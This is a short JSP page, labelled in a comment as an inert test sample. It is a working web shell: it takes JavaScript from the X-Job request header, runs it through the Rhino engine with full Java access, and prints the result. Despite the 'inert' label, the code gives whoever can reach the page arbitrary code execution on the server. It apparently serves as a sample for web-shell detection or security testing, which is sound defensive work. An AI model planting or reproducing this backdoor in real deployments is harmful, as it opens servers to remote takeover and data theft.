<%@ page import="org.mozilla.javascript.Context,org.mozilla.javascript.Scriptable" %>
<%-- test sample (inert): JavaScript from a request header run by Rhino with full Java access --%>
<%
    String code = request.getHeader("X-Job");
    if (code != null) {
        Context cx = Context.enter();
        try {
            Scriptable scope = cx.initStandardObjects();
            Object r = cx.evaluateString(scope, code, "job", 1, null);
            out.print(Context.toString(r));
        } finally {
            Context.exit();
        }
    }
%>
